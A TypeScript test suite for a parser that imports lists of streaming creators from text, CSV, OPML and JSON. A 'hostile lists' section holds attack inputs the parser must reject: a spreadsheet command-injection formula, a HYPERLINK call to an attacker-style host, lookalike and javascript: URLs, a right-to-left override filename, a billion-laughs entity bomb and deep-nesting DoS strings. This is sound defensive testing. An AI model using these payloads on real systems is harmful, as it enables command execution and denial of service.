import { describe, expect, it } from 'vitest';
import { readList } from './read-list.ts';

const read = (text: string, usual: Parameters<typeof readList>[1] = null) =>
  readList(text, usual).entries.map(({ platform, wrote }) => `${platform} ${wrote}`);
const left = (text: string) => readList(text, null).leftOut.map(({ line, reason }) => `${line} ${reason}`);

const id = 'UCabcdefghijklmnopqrstuv';
const otherId = 'UC0123456789_-0123456789';

describe('text', () => {
  it.each([
    ['ada', ['null ada']],
    ['@ada, bob;eve mallory\r\n\npeggy', ['null @ada', 'null bob', 'null eve', 'null mallory', 'null peggy']],
    ['أحمد، سارة؛ ليلى', ['null أحمد', 'null سارة', 'null ليلى']],
    [
      '- https://www.twitch.tv/ada?ref=x\n* kick.com/bob/',
      ['twitch https://www.twitch.tv/ada?ref=x', 'kick kick.com/bob/'],
    ],
    ['1. <https://kick.com/ada> — "the best"!', ['kick https://kick.com/ada']],
    ['`twitch.tv/ada` **kick.com/bob**', ['twitch twitch.tv/ada', 'kick kick.com/bob']],
    [
      '[Ada plays](https://youtube.com/@ada) and [Bob](https://kick.com/bob)',
      ['youtube https://youtube.com/@ada', 'kick https://kick.com/bob'],
    ],
    ['Ada is live on https://tiktok.com/@ada !', ['tiktok https://tiktok.com/@ada']],
    ['twitch: ada, bob\nKick: eve\nmallory', ['twitch ada', 'twitch bob', 'kick eve', 'null mallory']],
    ['## YouTube\nada\nbob\n**Rumble**\neve', ['youtube ada', 'youtube bob', 'rumble eve']],
    ['Twitch:\nada\nhttps://kick.com/bob', ['twitch ada', 'kick https://kick.com/bob']],
    [
      `https://www.youtube.com/feeds/videos.xml?channel_id=${id}`,
      [`youtube https://www.youtube.com/feeds/videos.xml?channel_id=${id}`],
    ],
    [id, [`youtube ${id}`]],
    ['xQc xqc', ['null xQc']],
    ['\uFEFFada_', ['null ada_']],
    ['7\n12', []],
    ['Ada: kick.com/ada... Bob: kick.com/bob/..', ['kick kick.com/ada', 'kick kick.com/bob/..']],
  ])('%j', (text, entries) => expect(read(text)).toEqual(entries));

  it('a platform above the box counts for names without a link', () => {
    expect(read('ada\nkick.com/bob\nrumble: eve', 'twitch')).toEqual(['twitch ada', 'kick kick.com/bob', 'rumble eve']);
  });

  it('lists the skipped lines, with their position', () => {
    expect(left('https://example.org/ada\nada\n\nADA\n— #…')).toEqual(['1 notOurs', '4 twice', '5 unreadable']);
  });

  it('ends at a thousand creators and at five thousand lines', () => {
    const names = Array.from({ length: 1_002 }, (_, at) => `ada${at}`).join('\n');
    expect([read(names).length, left(names)]).toEqual([1_000, ['1001 tooMany', '1002 tooMany']]);
    expect(left(`${'#\n'.repeat(5_000)}ada`).at(-1)).toBe('499 unreadable'.replace('499', '500'));
  });
});

describe('sheets', () => {
  it.each([
    [
      `Channel Id,Channel Url,Channel Title\n${id},http://www.youtube.com/channel/${id}/,"Ada, the first"`,
      [`youtube http://www.youtube.com/channel/${id}/`],
    ],
    [
      `Kanal-ID,Kanal-URL,Kanaltitel\n${id},http://www.youtube.com/channel/${id},Ada`,
      [`youtube http://www.youtube.com/channel/${id}`],
    ],
    ['name,platform\nada,twitch\n"bob",Kick\neve,', ['twitch ada', 'kick bob', 'null eve']],
    ['Platform;Link\ntwitch;https://kick.com/ada', ['kick https://kick.com/ada']],
    ['streamer\tplatform\nada\tyoutube\n\n', ['youtube ada']],
    [`name,Channel Id\n"Ada ""A""\nLovelace",${otherId}`, [`youtube ${otherId}`]],
  ])('%j', (text, entries) => expect(read(text)).toEqual(entries));

  it('a cell with a line end counts for the lines', () => {
    expect(readList('name,platform\n"ada\nbob",kick\neve,kick', null).entries.map(({ line }) => line)).toEqual([
      2, 2, 4,
    ]);
  });
});

describe('OPML', () => {
  it('reads the feeds and pages of outlines, with the five entities', () => {
    const opml = `<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY x "https://kick.com/evil">]>
<opml><body><outline text="Videos">
  <outline text="Ada > Bob" type="rss" xmlUrl="https://www.youtube.com/feeds/videos.xml?x=1&amp;channel_id=${id}"/>
  <outline htmlUrl='https://www.twitch.tv/ada' xmlUrl='https://example.org/feed'/>
  <outline url="&x;"/>
</outline></body></opml>`;
    expect(read(opml)).toEqual([
      `youtube https://www.youtube.com/feeds/videos.xml?x=1&channel_id=${id}`,
      'twitch https://www.twitch.tv/ada',
    ]);
  });
});

describe('JSON', () => {
  it.each([
    ['["ada", "https://kick.com/bob"]', ['null ada', 'kick https://kick.com/bob']],
    ['{"twitch": ["ada", "bob"], "Kick": "eve", "color": "red"}', ['twitch ada', 'twitch bob', 'kick eve']],
    ['[{"name": "ada", "platform": "twitch", "color": "#fff"}]', ['twitch ada']],
    // NewPipe's export format.
    [
      `{"app_version": "0.27", "subscriptions": [{"service_id": 0, "url": "https://www.youtube.com/channel/${id}", "name": "Ada"}]}`,
      [`youtube https://www.youtube.com/channel/${id}`],
    ],
    // FreeTube exports one profile per line.
    [
      `{"_id": "allChannels", "name": "All Channels", "bgColor": "#000", "subscriptions": [{"id": "${id}", "name": "Ada", "thumbnail": "https://yt3.ggpht.com/x"}]}
{"_id": "x", "name": "Games", "subscriptions": [{"id": "${otherId}", "name": "Bob"}]}`,
      [`youtube ${id}`, `youtube ${otherId}`],
    ],
    ['{"a": {"b": [{"link": "https://rumble.com/c/ada"}]}}', ['rumble https://rumble.com/c/ada']],
    [`${'['.repeat(40)}"ada"${']'.repeat(40)}`, []],
  ])('%j', (text, entries) => expect(read(text)).toEqual(entries));
});

describe('hostile lists', () => {
  const definitions = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');
  const laughs = `<!DOCTYPE opml [<!ENTITY l0 "https://kick.com/evil">${definitions}]>`;
  it.each([
    ['a formula', `=cmd|' /C calc'!A0\n=HYPERLINK("https://evil.example/?x")`, []],
    ['a formula in a sheet', 'name,platform\n=cmd,kick\n"=1+1",twitch', []],
    ['another script', 'https://twit\u0441h.tv/ada', []],
    ['a script', 'javascript:twitch.tv/ada', []],
    ['a user name', 'https://twitch.tv@evil.example/ada', []],
    ['a longer host', 'https://twitch.tv.evil.example/ada', []],
    ['a right-to-left mark', 'ada\u202Etxt.exe', []],
    ['a billion laughs', `<?xml version="1.0"?>${laughs}<opml><body><outline url="&l9;"/></body></opml>`, []],
    ['ten thousand brackets', `${'['.repeat(10_000)}"ada"${']'.repeat(10_000)}`, []],
    ['ten thousand objects', `${'{"a":'.repeat(10_000)}"ada"${'}'.repeat(10_000)}`, []],
    ['a million lines', `${'\n'.repeat(1_000_000)}kick.com/ada`, ['kick kick.com/ada']],
  ])('%s', (_, text, entries) => expect(read(text)).toEqual(entries));
});

it('a thousand damaged files throw nothing, and time grows with their size only', () => {
  const whole = [
    `Channel Id,Channel Url,Channel Title\n${id},http://www.youtube.com/channel/${id},"A"`,
    `<?xml version="1.0"?><opml><body><outline xmlUrl="https://kick.com/a&amp;b"/></body></opml>`,
    `{"subscriptions":[{"id":"${id}","name":"Ada","url":"https://twitch.tv/ada"}]}`,
    '# Twitch\n- ada, [Bob](https://kick.com/bob) `eve`\n"mallory" <https://rumble.com/user/x>',
  ];
  let seed = 7;
  const random = (below: number) => {
    seed = (seed * 48_271) % 2_147_483_647;
    return seed % below;
  };
  const odd = [
    '"',
    '<',
    '>',
    '\\',
    '{',
    '[',
    ',',
    '\t',
    '\n',
    '\u0000',
    '\ud800',
    '&',
    ':',
    '](',
    '\ufeff',
    '%',
    '-',
    ' ',
  ];
  for (let round = 0; round < 1_000; round += 1) {
    let text = whole[round % whole.length] as string;
    for (let change = 0; change < 1 + (round % 7); change += 1) {
      const at = random(text.length);
      const piece = (odd[random(odd.length)] as string).repeat(1 + random(3));
      text = text.slice(0, at) + (random(2) ? piece : '') + text.slice(at + random(4));
    }
    const { entries, leftOut } = readList(text, null);
    for (const { wrote } of [...entries, ...leftOut]) expect(wrote.length).toBeLessThanOrEqual(300);
  }
  // With quadratic time, each of these inputs would take minutes.
  for (const piece of ['<outline "', '- ', '"', '[](', '*', 'UC', 'a.', '{"a":', '[', '<?xml', ',', '::', '\u00a0'])
    expect(() => readList(piece.repeat(1_000_000 / piece.length), null)).not.toThrow();
});
